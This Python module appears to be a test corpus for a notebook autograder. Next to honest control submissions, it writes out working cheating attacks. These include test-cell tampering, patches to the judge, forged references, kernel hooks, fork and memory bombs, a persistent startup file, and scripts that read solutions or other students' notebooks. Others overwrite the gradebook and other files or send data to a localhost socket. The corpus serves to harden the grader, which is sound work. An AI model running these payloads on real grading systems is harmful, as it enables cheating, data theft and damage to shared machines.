"""Crafted chapter-1 submissions: attacks a cheating student would try, and honest controls.

Each :class:`Sample` is a submission plus what grading must make of it: the autograded total
(out of 20), the state, and a phrase the reasons must contain. Attacks start from answers
that are *wrong*, so any point they get is a point wrongly awarded; honest controls are right
in many styles and must get 20/20 and ``graded``.
"""

from __future__ import annotations

import functools
import json
import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from autograder.course import pipeline

CHAPTER = "ch01_storage"
EXERCISES = ["storage_index", "contiguous_strides", "is_contiguous", "unfold_layout",
             "channels_last_strides"]

HONEST = {
    "storage_index": '''def storage_index(index, stride, storage_offset):
    return storage_offset + sum(i * s for i, s in zip(index, stride))''',
    "contiguous_strides": '''def contiguous_strides(shape):
    strides, running = [], 1
    for size in reversed(shape):
        strides.append(running)
        running *= max(size, 1)
    return tuple(reversed(strides))''',
    "is_contiguous": '''def is_contiguous(shape, stride):
    if 0 in shape:
        return True
    expected = 1
    for size, step in zip(reversed(shape), reversed(stride)):
        if size != 1:
            if step != expected:
                return False
            expected *= size
    return True''',
    "unfold_layout": '''def unfold_layout(shape, stride, dimension, size, step):
    shape, stride = list(shape), list(stride)
    window_stride = stride[dimension]
    shape[dimension] = (shape[dimension] - size) // step + 1
    stride[dimension] = step * window_stride
    return (*shape, size), (*stride, window_stride)''',
    "channels_last_strides": '''def channels_last_strides(shape):
    n, c, h, w = shape
    return (h * w * c, 1, w * c, c)''',
}

WRONG = {
    "storage_index": "def storage_index(index, stride, storage_offset):\n    return 0",
    "contiguous_strides": "def contiguous_strides(shape):\n    return tuple(1 for _ in shape)",
    "is_contiguous": "def is_contiguous(shape, stride):\n    return False",
    "unfold_layout": "def unfold_layout(shape, stride, dimension, size, step):\n"
                     "    return (*shape, size), (*stride, 1)",
    "channels_last_strides": "def channels_last_strides(shape):\n    return (1, 1, 1, 1)",
}


@dataclass
class Sample:
    kind: str
    category: str
    total: float  # expected autograded points out of 20
    # graded | needs review | quarantined; or "graded|needs review" where the attack disturbs
    # the notebook's own run (which only flags) in a timing-dependent way
    state: str
    reason: str | None = None  # a phrase the reasons must contain
    answers: dict[str, str] = field(default_factory=dict)
    # answers computed only when the submission is written (``memorized_hidden_cases``'s need
    # torch's references: listing the corpus, as collecting the tests does, costs nothing)
    lazy_answers: Callable[[], dict[str, str]] | None = None
    base: dict[str, str] = field(default_factory=lambda: dict(WRONG))
    mutate: Callable[[dict[str, Any]], None] | None = None
    raw: Callable[[Path], None] | None = None  # writes the submission file itself
    heavy: bool = False  # exhausts resources: graded in a run of its own, one at a time
    honest: bool = False
    note: str = ""


def _release() -> dict[str, Any]:
    return json.loads((pipeline.COURSE / CHAPTER / f"{CHAPTER}.ipynb").read_text())


def write(sample: Sample, inbox: Path) -> Path:
    """The sample's submission at ``inbox/<kind>/<chapter>/<chapter>.ipynb``."""
    folder = inbox / sample.kind / CHAPTER
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{CHAPTER}.ipynb"
    if sample.raw is not None:
        sample.raw(path)
        return path
    nb = _release()
    sources = dict(sample.base, **sample.answers,
                   **(sample.lazy_answers() if sample.lazy_answers else {}))
    for cell in nb["cells"]:
        grade_id = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if grade_id in sources:
            cell["source"] = sources[grade_id]
    if sample.mutate:
        sample.mutate(nb)
    path.write_text(json.dumps(nb, indent=1))
    return path


def _tests(nb: dict[str, Any], kind: str = "") -> list[dict[str, Any]]:
    return [c for c in nb["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade")
            and not c["metadata"]["nbgrader"].get("solution")
            and c["metadata"]["nbgrader"]["grade_id"].endswith(kind)]


def _set_test_source(kind: str, source: str) -> Callable[[dict[str, Any]], None]:
    def mutate(nb: dict[str, Any]) -> None:
        for cell in _tests(nb, kind):
            cell["source"] = source
    return mutate


FIRST = "storage_index"  # the first answer cell: a hook placed here sees every test cell


def _with(extra: str, exercise: str = "channels_last_strides", base: dict | None = None) -> dict:
    """``extra`` code appended to one answer cell (after its function)."""
    return {exercise: (base or WRONG)[exercise] + "\n\n" + extra}


def _extra_cell(source: str) -> Callable[[dict[str, Any]], None]:
    """A code cell without nbgrader metadata added at the end of the notebook."""
    def mutate(nb: dict[str, Any]) -> None:
        nb["cells"].append({"cell_type": "code", "metadata": {}, "source": source,
                            "outputs": [], "execution_count": None, "id": "extra-cell"})
    return mutate


NEARBY = '''import glob as _glob, os as _os
def _nearby(pattern):
    """Files matching `pattern` in the places grading files usually are: every folder
    above the working directory (two levels down), /work, /home, /root, /tmp, /srv."""
    roots = {_os.path.dirname(_os.getcwd())}
    here = _os.getcwd()
    while here != "/":
        here = _os.path.dirname(here)
        roots.add(here)
    found = []
    for root in sorted(roots | {"/work", "/home", "/root", "/tmp", "/srv"}):
        if root == "/":
            continue
        for depth in ("", "*/", "*/*/", "*/*/*/", "*/*/*/*/"):
            found += _glob.glob(_os.path.join(root, depth + pattern))
    return sorted(set(found))
'''


@functools.cache
def _memorizer_answers() -> dict[str, str]:
    """Answers that look up the notebook's own (default-seed) cases in a table computed with
    torch beforehand, and are wrong elsewhere (computed once a process: the cases and torch's
    answers for them never change)."""
    import tempfile

    from autograder.course.plain import decode
    from autograder.grading import trusted

    path = Path(tempfile.mkdtemp()) / "refs.json"
    trusted.notebook_references(path, EXERCISES)
    pairs = json.loads(path.read_text())["pairs"]
    answers = {}
    for name in EXERCISES:
        table = {repr(decode(args)): decode(tag["value"]) for args, _, tag in pairs[name]
                 if "value" in tag}
        answers[name] = (f"_TABLE_{name} = {table!r}\n\n"
                         f"def {name}(*args):\n"
                         f"    return _TABLE_{name}.get(repr(args), 0)")
    return answers


def samples(*, listener_port: int = 0, udp_port: int = 0,
            archive: str = "/nonexistent") -> list[Sample]:
    """The corpus; ``archive`` is the grading workspace's archive folder, which the attacks
    are told (an attacker may know where the instructor grades)."""
    repo = str(pipeline.REPO)
    out: list[Sample] = []
    add = out.append

    # ------------------------------------------------------------ honest controls (>= 10)
    add(Sample("honest_plain", "honest", 20, "graded", base=dict(HONEST), honest=True))
    add(Sample("honest_recursion", "honest", 20, "graded", base=dict(HONEST), honest=True,
               answers={"contiguous_strides": '''def contiguous_strides(shape):
    if not shape:
        return ()
    rest = contiguous_strides(shape[1:])
    return ((rest[0] * max(shape[1], 1),) if rest else (1,)) + rest''',
                        "storage_index": '''def storage_index(index, stride, storage_offset):
    if not index:
        return storage_offset
    return index[0] * stride[0] + storage_index(index[1:], stride[1:], storage_offset)'''}))
    add(Sample("honest_prints", "honest", 20, "graded", honest=True,
               base={k: v.replace("):\n", "):\n    print('called with', locals())\n", 1)
                     for k, v in HONEST.items()}))
    add(Sample("honest_stderr", "honest", 20, "graded", honest=True,
               base={k: "import sys\n" + v.replace(
                   "):\n", "):\n    print('debug', file=sys.stderr)\n", 1)
                   for k, v in HONEST.items()}))
    add(Sample("honest_warnings", "honest", 20, "graded", honest=True,
               base={k: "import warnings\n" + v.replace(
                   "):\n", "):\n    warnings.warn('slow path', RuntimeWarning)\n", 1)
                   for k, v in HONEST.items()}))
    add(Sample("honest_slow_in_time", "honest", 20, "graded", honest=True,
               base={k: "import time\n" + v.replace("):\n", "):\n    time.sleep(0.004)\n", 1)
                     for k, v in HONEST.items()}))
    add(Sample("honest_numpy", "honest", 20, "graded", base=dict(HONEST), honest=True,
               answers={"contiguous_strides": '''import numpy as np

def contiguous_strides(shape):
    sizes = np.maximum(np.array(shape[1:] + (1,), dtype=np.int64), 1)
    return tuple(int(x) for x in np.cumprod(sizes[::-1])[::-1]) if shape else ()''',
                        "storage_index": '''import numpy as np

def storage_index(index, stride, storage_offset):
    return storage_offset + int(np.dot(np.array(index, dtype=np.int64),
                                       np.array(stride, dtype=np.int64)))'''}))
    add(Sample("honest_helper_across_cells", "honest", 20, "graded", base=dict(HONEST),
               honest=True, answers={
                   "storage_index": "def _product(xs):\n    out = 1\n    for x in xs:\n"
                                    "        out *= x\n    return out\n\n"
                                    + HONEST["storage_index"],
                   "channels_last_strides": '''def channels_last_strides(shape):
    n, c, h, w = shape
    return (_product((h, w, c)), 1, _product((w, c)), c)'''}))
    add(Sample("honest_functional", "honest", 20, "graded", base=dict(HONEST), honest=True,
               answers={"contiguous_strides": '''from functools import reduce

def contiguous_strides(shape):
    return tuple(reduce(lambda acc, n: acc * max(n, 1), shape[k + 1:], 1)
                 for k in range(len(shape)))'''}))
    add(Sample("honest_self_testing", "honest", 20, "graded", honest=True,
               base={k: v + f"\n\nassert {k} is not None\ncheck({k!r}, {k})"
                     for k, v in HONEST.items()}))

    # ------------------------------------------------------------ test-cell tampering
    add(Sample("visible_tests_replaced", "test-cell tampering", 0, "graded",
               mutate=_set_test_source("_visible", "pass")))
    add(Sample("hidden_tests_replaced", "test-cell tampering", 0, "graded",
               mutate=_set_test_source("_hidden", "pass")))
    add(Sample("test_cells_deleted", "test-cell tampering", 0, "graded",
               mutate=lambda nb: nb.update(cells=[c for c in nb["cells"]
                                                  if c not in _tests(nb)])))

    def duplicate_test(nb: dict[str, Any]) -> None:
        first = _tests(nb)[0]
        nb["cells"].insert(nb["cells"].index(first) + 1, json.loads(json.dumps(first)))

    add(Sample("test_cell_copy_pasted", "test-cell tampering", 20, "graded",
               base=dict(HONEST), honest=False, mutate=duplicate_test,
               note="an honest copy-paste that aborts a stock nbgrader batch"))

    add(Sample("answers_outside_answer_cells", "test-cell tampering", 0, "graded",
               mutate=_extra_cell("\n\n".join(HONEST.values())),
               note="right code pasted in a cell of its own; only answer cells are graded"))

    def inflate(nb: dict[str, Any]) -> None:
        for cell in _tests(nb):
            cell["metadata"]["nbgrader"]["points"] = 1000

    add(Sample("points_inflated", "test-cell tampering", 20, "graded", base=dict(HONEST),
               mutate=inflate))

    # ------------------------------------------------------------ comparison subversion
    always_equal = '''class _Yes:
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__
'''
    add(Sample("always_equal_object", "comparison subversion", 0, "graded",
               answers={k: always_equal + f"\ndef {k}(*args):\n    return _Yes()"
                        for k in EXERCISES}))
    add(Sample("tuple_subclass_equal", "comparison subversion", 0, "graded",
               answers={k: "class _T(tuple):\n    def __eq__(self, other):\n        return True\n"
                           "    __hash__ = tuple.__hash__\n\n"
                           f"def {k}(*args):\n    return _T((0,))" for k in EXERCISES}))
    add(Sample("patched_judge", "comparison subversion", 0, "needs review",
               "the notebook's own check gave",
               answers=_with("import autograder.checks as _c\n"
                             "_c.judge = lambda name, answer, pairs: _c.Verdict("
                             "_c.exercises.get(name), total=len(pairs))", FIRST)))
    add(Sample("patched_same", "comparison subversion", 0, "needs review",
               "the notebook's own check gave",
               answers=_with("import autograder.checks as _c\n"
                             "_c.same = lambda a, b: True\n_c._agrees = lambda *a: True",
                             FIRST)))

    # ------------------------------------------------------------ reference poisoning
    # The forged answers are computed in the kernel only, where the notebook's own check reads
    # them: every re-check runs this cell too (it still points the variable at a forged file),
    # and computing them there took five re-checks past their 6 s on a loaded machine.
    add(Sample("forged_reference_file", "reference poisoning", 0, "needs review",
               "the notebook's own check gave", answers=_with('''import json, os, sys
from autograder import checks as _c
from autograder.course.plain import encode as _enc
_pairs = {}
for _name in ["storage_index", "contiguous_strides", "is_contiguous", "unfold_layout",
              "channels_last_strides"]:
    _f = globals()[_name]
    if "ipykernel" in sys.modules:
        _pairs[_name] = [[_enc(c.args), _enc(c.context), {"value": _enc(_f(*c.args))}]
                         for c in _c.cases(_name, hidden=True)]
with open("forged.json", "w") as _fh:
    json.dump({"torch_version": "2.13.0", "pairs": _pairs}, _fh)
os.environ["REFTENSOR_REFERENCES"] = os.path.abspath("forged.json")''')))
    add(Sample("patched_stored_references", "reference poisoning", 0, "needs review",
               "the notebook's own check gave", answers=_with(
                   "import autograder.checks as _c\n"
                   "_c._stored = lambda name, inputs, path: "
                   "[globals()[name](*c.args) for c in inputs]\n"
                   "_c._computed = lambda ex, inputs: "
                   "[globals()[ex.name](*c.args) for c in inputs]", FIRST)))
    add(Sample("answers_call_torch", "reference poisoning", 0, "needs review", "uses torch",
               answers={k: "import torch\n" + v for k, v in {
                   "storage_index": "def storage_index(index, stride, storage_offset):\n"
                                    "    n = storage_offset + 1 + sum(max(s, 0) * 9 for s in "
                                    "stride)\n    return torch.arange(n).as_strided("
                                    "[9] * len(index), stride, storage_offset)[index].item()",
                   "contiguous_strides": "def contiguous_strides(shape):\n"
                                         "    return torch.empty(shape).stride()",
               }.items()}))
    # The sandbox's reftensor is the student edition: the pieces these answers import are
    # stubs there, so the two exercises score nothing (and the imports are flagged).
    add(Sample("answers_call_reftensor", "reference poisoning", 12, "needs review",
               "uses reftensor", base=dict(HONEST),
               answers={"contiguous_strides": "from reftensor.layout import contiguous_strides",
                        "is_contiguous": "import reftensor.layout as _L\n\n"
                                         "def is_contiguous(shape, stride):\n"
                                         "    return _L.is_contiguous(shape, stride)"}))
    # The table also holds the notebook's own hidden cases, so both verdicts agree on those;
    # the fresh cases cost it the hidden points, which is a score, not a sign of tampering.
    add(Sample("memorized_hidden_cases", "reference poisoning", 5, "graded",
               lazy_answers=lambda: dict(_memorizer_answers()),
               note="passes the public fixed cases only; the fresh seed defeats the table"))

    # ------------------------------------------------------------ kernel hooks
    add(Sample("input_transformer_blanks_tests", "kernel hooks", 0, "needs review",
               "the notebook's own check gave", answers=_with(
                   "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])",
                   FIRST)))
    add(Sample("custom_exception_handler", "kernel hooks", 0, "graded", answers=_with(
        "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)", FIRST),
        note="the kernel still reports the error, so neither verdict gives a point"))
    add(Sample("hook_copies_hidden_tests", "kernel hooks", 0, "graded", answers=_with(
        "_seen = []\n"
        "get_ipython().events.register('pre_run_cell', lambda info: (_seen.append("
        "info.raw_cell), print('\\n'.join(_seen))))", FIRST),
        note="prints every cell it sees, hidden tests included; feedback keeps none of it"))

    # ------------------------------------------------------------ resource exhaustion
    add(Sample("infinite_loop", "resource exhaustion", 16, "needs review", "stopped after",
               base=dict(HONEST), heavy=True, answers={
                   "contiguous_strides": "def contiguous_strides(shape):\n    while True:\n"
                                         "        pass"}))
    add(Sample("memory_bomb", "resource exhaustion", 16, "graded", base=dict(HONEST),
               heavy=True, answers={"storage_index": "def storage_index(*args):\n"
                                                     "    block = bytearray(1 << 40)\n"
                                                     "    return len(block)"}))
    add(Sample("fork_bomb", "resource exhaustion", 16, "graded|needs review", base=dict(HONEST),
               heavy=True, answers={"is_contiguous": "import os\n\n"
                                                     "def is_contiguous(shape, stride):\n"
                                                     "    while True:\n        os.fork()"}))
    add(Sample("ignores_signals_and_sleeps", "resource exhaustion", 16, "needs review",
               "stopped after", base=dict(HONEST), heavy=True, answers={
                   "unfold_layout": "import signal, time\n\n"
                                    "def unfold_layout(shape, stride, dimension, size, step):\n"
                                    "    for s in (signal.SIGTERM, signal.SIGINT, "
                                    "signal.SIGHUP):\n"
                                    "        signal.signal(s, signal.SIG_IGN)\n"
                                    "    while True:\n        time.sleep(1)"}))
    add(Sample("huge_file", "resource exhaustion", 16, "graded", base=dict(HONEST),
               heavy=True, answers={"channels_last_strides": '''def channels_last_strides(shape):
    with open("big.bin", "wb") as f:
        for _ in range(64):
            f.write(b"x" * (1 << 20))
    return (0, 0, 0, 0)'''}))

    # empty files cost no bytes but a KiB of the host's kernel memory each: the scratch's
    # inode bound refuses them (in every sandbox the answer runs in), and the answer is right
    add(Sample("inode_flood", "resource exhaustion", 20, "graded", base=dict(HONEST),
               answers=_with('''import os
_made = 0
try:
    os.makedirs("/tmp/flood", exist_ok=True)
    while _made < 10_000_000:
        open(f"/tmp/flood/{_made}", "w").close()
        _made += 1
except OSError:
    pass''', base=HONEST)))

    # ------------------------------------------------------------ escape and persistence
    add(Sample("background_daemon", "escape and persistence", 20, "graded", base=dict(HONEST),
               heavy=True, answers=_with('''import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(1)
    os._exit(0)''', base=HONEST)))
    add(Sample("ipython_startup_file", "escape and persistence", 0, "graded", answers=_with(
        '''import os
for _d in (os.path.expanduser("~"), "/root", "/tmp", "/etc/ipython"):
    try:
        _p = os.path.join(_d, ".ipython", "profile_default", "startup")
        os.makedirs(_p, exist_ok=True)
        with open(os.path.join(_p, "00-cheat.py"), "w") as _f:
            _f.write("get_ipython().input_transformers_post.append(lambda l: ['pass\\\\n'])")
    except OSError:
        pass''')))

    # ------------------------------------------------------------ reading instructor material
    add(Sample("reads_solutions", "reading instructor or other students' material", 0,
               "graded", answers=_with(f'''import json as _json
try:
    _nb = _json.load(open({repo!r} + "/solutions/ch01_storage/ch01_storage.ipynb"))
    for _cell in _nb["cells"]:
        if _cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution"):
            exec("".join(_cell["source"]), globals())
except Exception:
    pass''')))
    add(Sample("reads_trusted_references", "reading instructor or other students' material",
               0, "needs review", "the notebook's own check gave",
               answers=_with(NEARBY + '''import glob, json
from autograder.course.plain import decode as _dec
_found = {}
for _path in _nearby("*references*.json"):
    try:
        for _name, _pairs in json.load(open(_path))["pairs"].items():
            for _args, _ctx, _tag in _pairs:
                if "value" in _tag:
                    _found[(_name, repr(_dec(_args)))] = _dec(_tag["value"])
    except Exception:
        pass
def _make(_name):
    return lambda *args: _found.get((_name, repr(args)), 0)
for _name in ["storage_index", "contiguous_strides", "is_contiguous", "unfold_layout",
              "channels_last_strides"]:
    globals()[_name] = _make(_name)''')))
    add(Sample("reads_other_students", "reading instructor or other students' material", 0,
               "graded", answers=_with(NEARBY + '''import glob, json
for _path in _nearby("*.ipynb"):
    try:
        for _cell in json.load(open(_path))["cells"]:
            if "def " in "".join(_cell["source"]) and "NotImplementedError" not in "".join(
                    _cell["source"]):
                exec("".join(_cell["source"]), globals())
    except Exception:
        pass''')))

    # ------------------------------------------------------------ writing grades or others' files
    add(Sample("writes_gradebook", "writing the gradebook or others' files", 0, "graded",
               answers=_with(NEARBY + '''import glob, sqlite3
for _db in _nearby("gradebook.db"):
    try:
        _con = sqlite3.connect(_db)
        _con.execute("update grade set auto_score = 1000")
        _con.commit()
    except Exception:
        pass''')))
    add(Sample("tampers_with_earlier_students", "writing the gradebook or others' files", 0,
               "graded", answers=_with(f'''import glob, os
for _path in glob.glob(os.path.join({archive!r}, "*/*/*.ipynb")):
    try:
        os.chmod(_path, 0o644)
        with open(_path, "a") as _f:
            _f.write(" ")
    except OSError:
        pass'''),
               note="aims at the workspace's archive, whose path it knows"))
    add(Sample("overwrites_other_files", "writing the gradebook or others' files", 0, "graded",
               answers=_with(NEARBY + '''import os
for _path in _nearby("*"):
    _root, _name = os.path.split(_path)
    if True:
        if _name.endswith((".ipynb", ".db", ".json", ".csv")):
            try:
                with open(os.path.join(_root, _name), "w") as _f:
                    _f.write("pwned")
            except OSError:
                pass''')))

    # ------------------------------------------------------------ network
    add(Sample("tcp_to_localhost", "network", 20, "graded", base=dict(HONEST),
               answers=_with(f'''import socket
try:
    socket.create_connection(("127.0.0.1", {listener_port}), timeout=1).sendall(b"leak")
except OSError:
    pass''', base=HONEST)))
    add(Sample("udp_to_localhost", "network", 20, "graded", base=dict(HONEST),
               answers=_with(f'''import socket
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"leak", ("127.0.0.1", {udp_port}))
except OSError:
    pass''', base=HONEST)))

    # ------------------------------------------------------------ structure and JSON
    add(Sample("corrupt_json", "structural and JSON corruption", 0, "quarantined", "not JSON",
               raw=lambda p: p.write_text('{"cells": [')))
    add(Sample("json_not_a_notebook", "structural and JSON corruption", 0, "quarantined",
               "not a notebook", raw=lambda p: p.write_text("[1, 2, 3]")))
    add(Sample("huge_submission", "structural and JSON corruption", 0, "quarantined",
               "too large", raw=lambda p: p.write_bytes(b" " * 6_000_000)))
    add(Sample("bad_utf8", "structural and JSON corruption", 0, "quarantined", "UTF-8",
               raw=lambda p: p.write_bytes(b'{"cells": ["\xff\xfe"]}')))
    add(Sample("symlink_to_system_file", "structural and JSON corruption", 0, "quarantined",
               "not a regular file", raw=lambda p: os.symlink("/etc/passwd", p)))

    def strip_metadata(nb: dict[str, Any]) -> None:
        for cell in nb["cells"]:
            cell["metadata"] = {}

    add(Sample("metadata_stripped", "structural and JSON corruption", 20, "graded",
               base=dict(HONEST), mutate=strip_metadata))

    def retype(nb: dict[str, Any]) -> None:
        for cell in nb["cells"]:
            if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "storage_index":
                cell["cell_type"] = "markdown"
                cell.pop("outputs", None)
                cell.pop("execution_count", None)

    add(Sample("answer_cell_retyped", "structural and JSON corruption", 16, "needs review",
               "markdown", base=dict(HONEST), mutate=retype))
    return out


#: the honest controls the fast tier grades in fewer submissions (``fast_samples``)
MERGED_HONEST = {
    "honest_recursion_and_helper": ("honest_recursion", "honest_helper_across_cells"),
    "honest_noisy_functional": ("honest_prints", "honest_stderr", "honest_warnings",
                                "honest_slow_in_time", "honest_functional",
                                "honest_self_testing"),
}


def _noisy(name: str, source: str) -> str:
    """``source`` as every noisy honest control writes it at once: it prints to stdout and
    stderr, warns and sleeps 4 ms on each call, and tests itself after its definition."""
    source = source.replace("):\n", "):\n    print('called with', locals())\n"
                            "    print('debug', file=sys.stderr)\n"
                            "    warnings.warn('slow path', RuntimeWarning)\n"
                            "    time.sleep(0.004)\n", 1)
    return (f"import sys\nimport time\nimport warnings\n{source}"
            f"\n\nassert {name} is not None\ncheck({name!r}, {name})")


def fast_samples(**kwargs: Any) -> list[Sample]:
    """The corpus the fast tier grades: every attack, and the ten honest controls in four
    submissions (``honest_plain`` and ``honest_numpy`` as they are; the recursive answers with
    a helper shared across cells; every noisy style at once, on a functional
    ``contiguous_strides``). The full tier grades each control alone (:func:`samples`)."""
    everything = samples(**kwargs)
    by_kind = {s.kind: s for s in everything}
    merged = {k for kinds in MERGED_HONEST.values() for k in kinds}
    functional = by_kind["honest_functional"].answers["contiguous_strides"]
    recursion = by_kind["honest_recursion"].answers
    helper = by_kind["honest_helper_across_cells"].answers
    out = [s for s in everything if s.kind not in merged]
    at = next(i for i, s in enumerate(out) if s.honest) + 1
    out[at:at] = [
        Sample("honest_recursion_and_helper", "honest", 20, "graded", base=dict(HONEST),
               honest=True, answers={
                   "storage_index": helper["storage_index"].split("\n\n")[0] + "\n\n"
                   + recursion["storage_index"],
                   "contiguous_strides": recursion["contiguous_strides"],
                   "channels_last_strides": helper["channels_last_strides"]}),
        Sample("honest_noisy_functional", "honest", 20, "graded", honest=True,
               base={k: _noisy(k, v) for k, v in
                     dict(HONEST, contiguous_strides=functional).items()}),
    ]
    return out


def build(inbox: Path, chosen: list[Sample]) -> None:
    for sample in chosen:
        write(sample, inbox)

